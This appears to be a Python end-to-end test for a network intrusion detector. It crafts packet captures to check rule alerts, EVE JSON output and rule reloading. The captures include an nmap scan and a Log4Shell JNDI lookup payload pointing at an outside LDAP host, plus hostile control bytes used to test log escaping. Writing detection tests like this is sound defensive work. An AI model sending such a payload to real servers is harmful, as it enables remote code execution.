"""Payload rules end to end: scanwatch -r on a crafted capture with the
shipped rules, and a live run on a net_ring vdev reloaded with SIGUSR2.

- an nmap NSE request (real default user agent) repeated to three targets
  over five seconds raises one gid 1 alert for (source, sid) (the rest are
  suppressed), with the rule's sid, rev, message, class, severity and
  file:line, and the source's scan alert reports tool "nmap" from it;
- a Log4Shell probe whose header holds hostile bytes (NUL, ESC, quotes,
  backslash, CR LF, invalid UTF-8) gives a one-line alert whose
  metadata.payload.excerpt decodes to those bytes (U+FFFD for invalid ones);
- benign HTTP in the same capture and every benign capture in tests/data
  raise no gid 1 alert;
- every line validates against Suricata's EVE schema;
- a rule that does not compile stops the start (and -T) with FILE:LINE
  and Hyperscan's message;
- live: SIGUSR2 reloads (stderr says so), a broken file keeps the old
  database, and the final stats count one reload and one failure.
Usage: test_rules_pipeline.py SCANWATCH DATA_DIR SCHEMA RULES_DIR
"""
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from swtest import check, finish, run  # noqa: E402

binary, data, schema_path, rules_dir = sys.argv[1:5]

import jsonschema  # noqa: E402
from scapy.all import Ether, IP, TCP, Raw, wrpcap  # noqa: E402

schema = json.load(open(schema_path))
validator = jsonschema.Draft202012Validator(schema) if hasattr(jsonschema, "Draft202012Validator") \
    else jsonschema.Draft7Validator(schema)
RULES = os.path.abspath(os.path.join(rules_dir, "scanwatch.rules"))
NSE_UA = b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
HOSTILE = b'"\\\x00\x1b[31m\r\n\xff\xfe\xc3(end'
MAC = dict(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")


def schema_errors(e):
    if e["event_type"] == "stats":
        return []  # test_pipeline.py checks stats lines against the schema
    return [x.message for x in validator.iter_errors(e)]


def session(t, src, dst, sport, dport, payload):
    """A TCP handshake, one request segment, the server's ACK."""
    c = dict(src=src, dst=dst)
    s = dict(src=dst, dst=src)
    pkts = [
        Ether(**MAC) / IP(**c) / TCP(sport=sport, dport=dport, flags="S", seq=1000),
        Ether(**MAC) / IP(**s) / TCP(sport=dport, dport=sport, flags="SA", seq=5000, ack=1001),
        Ether(**MAC) / IP(**c) / TCP(sport=sport, dport=dport, flags="A", seq=1001, ack=5001),
        Ether(**MAC) / IP(**c) / TCP(sport=sport, dport=dport, flags="PA", seq=1001, ack=5001)
        / Raw(payload),
        Ether(**MAC) / IP(**s) / TCP(sport=dport, dport=sport, flags="A", seq=5001,
                                     ack=1001 + len(payload)),
    ]
    for i, p in enumerate(pkts):
        p.time = t + i * 0.001
    return pkts


def crafted(path):
    pkts = []
    # A: nmap -sV/-sC style: NSE requests to three web servers, 2 s apart
    # (past the worker's 1 s dedup: the control thread must suppress)...
    nse = b"GET / HTTP/1.1\r\nConnection: close\r\nUser-Agent: " + NSE_UA + \
        b"\r\nHost: 10.99.0.%d\r\n\r\n"
    for i, t in enumerate((100.0, 102.0, 104.0)):
        pkts += session(t, "10.66.0.5", "10.99.0.%d" % (10 + i), 40000 + i, 80, nse % (10 + i))
    # ...and a SYN scan of 40 closed ports of one host (RST back)
    for k in range(40):
        t = 100.5 + k * 0.01
        syn = Ether(**MAC) / IP(src="10.66.0.5", dst="10.99.0.20") / \
            TCP(sport=50000, dport=1000 + k, flags="S")
        rst = Ether(**MAC) / IP(src="10.99.0.20", dst="10.66.0.5") / \
            TCP(sport=1000 + k, dport=50000, flags="RA")
        syn.time, rst.time = t, t + 0.0005
        pkts += [syn, rst]
    # B: Log4Shell in a header, with bytes that must not break a line
    l4s = b"GET /api HTTP/1.1\r\nHost: 10.99.0.30:8080\r\nX-Api-Version: ${jndi:ldap://" \
        b"198.51.100.7:1389/a}" + HOSTILE + b"\r\n\r\n"
    pkts += session(101.0, "10.66.0.6", "10.99.0.30", 41000, 8080, l4s)
    # C: ordinary clients
    for i, ua in enumerate((b"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
                            b"curl/7.88.1", b"Wget/1.21.3")):
        req = b"GET /index.html HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: " + ua + \
            b"\r\nAccept: */*\r\n\r\n"
        pkts += session(100.2 + i, "10.77.0.9", "10.99.0.40", 42000 + i, 80, req)
    pkts.sort(key=lambda p: p.time)
    wrpcap(path, pkts)


def rule_line(path, sid):
    for n, line in enumerate(open(path), 1):
        if line.startswith("sid:%d " % sid):
            return n
    return None


with tempfile.TemporaryDirectory(prefix="swtest-rules-") as d:
    pcap = os.path.join(d, "payloads.pcap")
    crafted(pcap)
    alerts, stats, lines, err = run(binary, pcap, "--set", "rules.files=" + RULES)
    # the ASan+UBSan build reports here (ASan also fails the exit status)
    check("no_sanitizer_reports", "runtime error" not in err and "Sanitizer" not in err, err[-800:])
    docs = [json.loads(x) for x in lines]  # raises if a line is not one JSON document
    bad = [(x["event_type"], m) for x in docs for m in schema_errors(x)]
    check("every_line_valid_eve", not bad, bad[:3])
    check("every_line_is_one_line", all("\n" not in x and "\r" not in x for x in lines))
    pay = [a for a in alerts if a["alert"]["gid"] == 1]
    by = {(a["src_ip"], a["alert"]["signature_id"]): a for a in pay}
    check("payload_alerts_for_a_and_b_only", sorted(by) == [("10.66.0.5", 1500001),
                                                             ("10.66.0.6", 1500201)],
          sorted(by))
    check("one_alert_per_source_and_sid", len(pay) == len(by), [(a["src_ip"],
          a["alert"]["signature_id"]) for a in pay])
    check("no_alert_on_benign_clients", not [a for a in alerts if a["src_ip"] == "10.77.0.9"])
    nse = by.get(("10.66.0.5", 1500001))
    if check("nse_alert_present", nse is not None):
        al, md = nse["alert"], nse["alert"]["metadata"]["payload"]
        check("nse_fields", al["rev"] == 1 and al["severity"] == 2 and
              al["signature"] == "SCAN Nmap Scripting Engine user agent" and
              al["category"] == "Attempted Information Leak" and
              nse["dest_ip"] == "10.99.0.10" and nse["dest_port"] == 80 and
              nse["src_port"] == 40000 and nse["proto"] == "TCP", nse)
        check("nse_rule_location", md["rule_file"].endswith("scanners.rules") and
              md["rule_line"] == rule_line(os.path.join(rules_dir, "scanners.rules"), 1500001),
              md)
        check("nse_metadata", md["classtype"] == "attempted-recon" and md["tool"] == "nmap" and
              NSE_UA.decode() in md["excerpt"] and md["excerpt_offset"] == 0, md)
        check("nse_timestamp_is_the_packets", nse["timestamp"].startswith("1970-01-01T00:01:40."),
              nse["timestamp"])
    l4s = by.get(("10.66.0.6", 1500201))
    if check("log4shell_alert_present", l4s is not None):
        md = l4s["alert"]["metadata"]["payload"]
        ex = md["excerpt"]
        check("log4shell_excerpt_has_the_lookup", "${jndi:ldap://198.51.100.7:1389/a}" in ex, ex)
        # the raw bytes come back through JSON; invalid UTF-8 as U+FFFD
        want = HOSTILE.decode("utf-8", errors="replace")
        check("log4shell_excerpt_keeps_hostile_bytes_escaped", want in ex, repr(ex))
        raw = [x for x in lines if '"signature_id":1500201' in x][0]
        check("hostile_bytes_escaped_on_the_wire", "\\u0000" in raw and "\\u001b" in raw and
              "\\r\\n" in raw and '\\"\\\\' in raw, raw[-300:])
        check("log4shell_severity_class", l4s["alert"]["severity"] == 1 and
              md["classtype"] == "attempted-admin", l4s["alert"])
    scans = [a for a in alerts if a["alert"]["gid"] == 122 and a["src_ip"] == "10.66.0.5"]
    if check("scan_alert_for_a", scans, [a["alert"]["signature"] for a in alerts]):
        tool = scans[0]["alert"]["metadata"]["scan"]["tool"]
        check("scan_tool_from_payload_rule", tool == "nmap", tool)
    r = stats["scanwatch"]["rules"]
    check("stats_rules", r["rules"] >= 35 and r["alerts"] == 2 and r["suppressed"] >= 2 and
          r["reload_failures"] == 0 and r["unknown_rule"] == 0 and r["ring_drops"] == 0, r)

    # benign captures: no payload alert with the shipped rules
    for case in sorted(os.listdir(data)):
        if not case.startswith("benign_") or not case.endswith(".pcap"):
            continue
        alerts, stats, _, _ = run(binary, os.path.join(data, case), "--set", "rules.files=" + RULES)
        fp = [(a["src_ip"], a["alert"]["signature"]) for a in alerts if a["alert"]["gid"] == 1]
        check("no_payload_alert_on_%s" % case[:-5], not fp and stats["scanwatch"]["rules"]["scanned"] > 0,
              (fp, stats["scanwatch"]["rules"]))

    # a broken rule at start: FILE:LINE and Hyperscan's message, exit status 1
    broken = os.path.join(d, "broken.rules")
    with open(broken, "w") as f:
        f.write("# line 1\nsid:1000001 msg:\"ok\" pattern:/fine/\n"
                "sid:1000002 msg:\"bad\" pattern:/a{2,1}/\n")
    p = subprocess.run([binary, "-r", pcap, "-l", d, "--set", "rules.files=" + broken],
                       capture_output=True, text=True, timeout=120)
    check("broken_rule_stops_start", p.returncode == 1 and
          "broken.rules:3: sid 1000002: pattern /a{2,1}/:" in p.stderr, (p.returncode, p.stderr))

    p = subprocess.run([binary, "-T", "--set", "rules.files=" + broken], capture_output=True,
                       text=True, timeout=60)
    check("test_config_checks_rules", p.returncode == 2 and
          "broken.rules:3: sid 1000002: pattern /a{2,1}/:" in p.stderr, (p.returncode, p.stderr))
    p = subprocess.run([binary, "-T", "--set", "rules.files=" + RULES], capture_output=True,
                       text=True, timeout=60)
    check("test_config_counts_rules", p.returncode == 0 and "payload rules OK" in p.stderr, p.stderr)

    # live, on a net_ring vdev: SIGUSR2 reloads; a broken include keeps the old database
    live = os.path.join(d, "live")
    os.mkdir(live)
    top = os.path.join(d, "top.rules")
    extra = os.path.join(d, "extra.rules")
    with open(extra, "w") as f:
        f.write("sid:1000010 msg:\"extra\" pattern:/extra/\n")
    with open(top, "w") as f:
        f.write("include %s\ninclude extra.rules\n" % RULES)
    errf = open(os.path.join(d, "live.err"), "w+")
    proc = subprocess.Popen([binary, "-i", "net_ring0", "-l", live, "--set", "rules.files=" + top,
                             "--", "--no-huge", "-m", "512", "--no-pci", "--no-shconf",
                             "--file-prefix=swtest-rp-%d" % os.getpid()],
                            stdout=subprocess.DEVNULL, stderr=errf)

    def wait_for(text, timeout=60):
        end = time.time() + timeout
        while time.time() < end and proc.poll() is None:
            errf.seek(0)
            if text in errf.read():
                return True
            time.sleep(0.2)
        return False

    try:
        up = wait_for("scanwatch: rules: ")
        # the control loop starts right after; give it a moment
        time.sleep(1.0)
        check("live_started", up, open(errf.name).read())
        with open(extra, "w") as f:
            f.write("sid:1000010 msg:\"extra\" pattern:/extra/\nsid:1000011 msg:\"more\" pattern:/more/\n")
        proc.send_signal(signal.SIGUSR2)
        check("live_sigusr2_reloads", wait_for("rules reloaded: %d rules" % (r["rules"] + 2)),
              open(errf.name).read()[-500:])
        with open(extra, "w") as f:
            f.write("\n\nsid:1000012 msg:\"bad\" pattern:/(x/\n")
        proc.send_signal(signal.SIGUSR2)
        check("live_broken_reload_keeps_old", wait_for("rules reload failed, keeping generation 2: " +
              extra + ":3: sid 1000012: pattern /(x/: "), open(errf.name).read()[-500:])
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)
        live_err = open(errf.name).read()
        check("live_exit_clean", proc.returncode == 0 and "runtime error" not in live_err and
              "Sanitizer" not in live_err, (proc.returncode, live_err[-800:]))
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        errf.close()
        shutil.rmtree("/var/run/dpdk/swtest-rp-%d" % os.getpid(), ignore_errors=True)
    evs = [json.loads(x) for x in open(os.path.join(live, "eve.json"))] \
        if os.path.exists(os.path.join(live, "eve.json")) else []
    st = [e for e in evs if e["event_type"] == "stats"]
    if check("live_final_stats", st, evs[:2]):
        r = st[-1]["stats"]["scanwatch"]["rules"]
        check("live_counts_one_reload_one_failure", r["reloads"] == 1 and r["reload_failures"] == 1
              and r["generation"] == 2, r)
finish()
